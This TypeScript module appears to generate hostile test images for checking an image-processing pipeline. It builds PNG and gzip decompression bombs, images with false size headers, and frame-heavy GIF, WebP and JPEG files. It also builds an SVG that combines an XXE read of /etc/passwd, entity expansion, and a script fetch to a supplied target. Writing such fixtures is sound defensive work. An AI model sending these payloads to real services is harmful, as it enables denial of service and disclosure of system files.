/** Creates hostile images: bombs, false headers, and files of two formats at once. All are small before decoding. */
import { constants, deflateRawSync, deflateSync, gzipSync } from "node:zlib";

import { be, bytesOf, le, png, pngChunk, riff, riffChunk } from "../file-parts.ts";

const MB = 1_048_576;

/**
 * Returns a function that creates the bytes once and caches them. Creating them compresses a hundred megabytes, and they are used many
 * times.
 */
const once = <Bytes>(make: () => Bytes): (() => Bytes) => {
  let cached: { readonly bytes: Bytes } | undefined;
  return () => (cached ??= { bytes: make() }).bytes;
};

const deflatedBlock = once(() =>
  deflateRawSync(Buffer.alloc(16 * MB), { level: 9, finishFlush: constants.Z_FULL_FLUSH }),
);

/** Returns compressed zeros of any length by repeating an independent compressed block of 16 MB. */
function deflatedZeros(bytes: number): Buffer {
  const block = deflatedBlock();
  const blocks = Array.from({ length: bytes / (16 * MB) }, () => block);
  // The checksum at the end is wrong, which does not reduce the harm.
  return bytesOf([0x78, 0x9c], ...blocks, [3, 0], be(1, 4));
}

const GIGABYTES = 4_096 * MB;

/** A valid PNG of 900 million pixels in about 100 KB. */
export const pngOfPixels = once((): Buffer => {
  const side = 30_000;
  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side), { level: 9 });
  return png(side, side, [1, 0], pngChunk("IDAT", rows));
});

/** Returns a PNG whose header states more pixels than the file contains. */
export function pngWithoutData(side: number): Buffer {
  return png(side, side, [8, 2], pngChunk("IDAT", deflateSync(Buffer.alloc(1_000_000))));
}

/** A gzip body that decompresses to 256 MB. */
export const gzipOfMegabytes = once((): Buffer => gzipSync(Buffer.alloc(256 * MB), { level: 1 }));

/** A PNG with a small size in its header, whose data decompress to gigabytes. */
export const pngOfGigabytes = once(() => png(64, 64, [8, 2], pngChunk("IDAT", deflatedZeros(GIGABYTES))));

/** Returns a valid small PNG whose metadata decompress to gigabytes. */
export function pngWithBomb(kind: "iCCP" | "zTXt" | "iTXt"): Buffer {
  const head = { iCCP: "icc\0\0", zTXt: "Comment\0\0", iTXt: "Comment\0\u0001\0\0\0" }[kind];
  const bomb = bytesOf(head, deflatedZeros(GIGABYTES / 4));
  const pixels = deflateSync(Buffer.alloc((3 * 32 + 1) * 32));
  return png(32, 32, [8, 2], pngChunk(kind, bomb), pngChunk("IDAT", pixels));
}

/**
 * Returns an animated WebP that repeats one still image.
 * @param still a WebP with one chunk
 * @param canvas stated width and height, in pixels
 */
export function animatedWebp(still: Uint8Array, frames: number, canvas: number): Buffer {
  const side = le(canvas - 1, 3);
  const frame = riffChunk("ANMF", bytesOf(le(0, 6), side, side, le(40, 3), [0], still.subarray(12)));
  const head = riffChunk("VP8X", bytesOf([0x02, 0, 0, 0], side, side));
  return riff("WEBP", head, riffChunk("ANIM", Buffer.alloc(6)), ...Array<Buffer>(frames).fill(frame));
}

/** Returns a GIF with many frames. Each frame contains one code. */
export function animatedGif(frames: number, side = 1): Buffer {
  const sides = [...le(side, 2), ...le(side, 2)];
  const head = bytesOf("GIF89a", sides, [0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
  const frame = bytesOf([0x2c, 0, 0, 0, 0], sides, [0, 2, 2, 0x44, 1, 0]);
  return bytesOf(head, ...Array<Buffer>(frames).fill(frame), ";");
}

/**
 * Returns a JPEG with many scans. Each has a few bytes, but makes a decoder process all pixels.
 * @param jpeg a progressive JPEG
 */
export function jpegOfScans(jpeg: Uint8Array, scans: number): Buffer {
  const scan = Buffer.from([0xff, 0xda, 0, 8, 1, 1, 0, 1, 63, 0, 0]);
  return bytesOf(jpeg.subarray(0, -2), ...Array<Buffer>(scans).fill(scan), [0xff, 0xd9]);
}

/** Returns a copy of a JPEG with a comment before the image data. */
export function jpegWithComment(jpeg: Uint8Array, comment: string): Buffer {
  return bytesOf(jpeg.subarray(0, 2), [0xff, 0xfe], be(comment.length + 2, 2), comment, jpeg.subarray(2));
}

export function svgOf(target: string): Buffer {
  return Buffer.from(
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">` +
      `<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>` +
      `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">` +
      `<script>fetch("${target}")</script><text>&x;&c;</text><image xlink:href="${target}" width="64" height="64"/></svg>`,
  );
}

/**
 * Returns a BMP of the colour #336699.
 * @param compression 0 none, 1 RLE of 8 bits
 * @param pixels replaces the pixel data
 */
export function bmpOf(
  width: number,
  height: number,
  bits: 8 | 24 | 32,
  { compression = 0, pixels }: { readonly compression?: number; readonly pixels?: Uint8Array } = {},
): Buffer {
  const pixel = Buffer.from(bits === 32 ? [0x99, 0x66, 0x33, 255] : [0x99, 0x66, 0x33]);
  const row = Buffer.alloc(Math.ceil((width * pixel.length) / 4) * 4);
  row.subarray(0, width * pixel.length).fill(pixel);
  const data = pixels ?? bytesOf(...Array.from({ length: height }, () => row));
  const colours = bits === 8 ? Buffer.alloc(1_024) : Buffer.alloc(0);
  const offset = 54 + colours.length;
  const head = [le(40, 4), le(width, 4), le(height, 4), le(1, 2), le(bits, 2), le(compression, 4), le(data.length, 4)];
  return bytesOf("BM", le(offset + data.length, 4), le(0, 4), le(offset, 4), ...head, Buffer.alloc(16), colours, data);
}
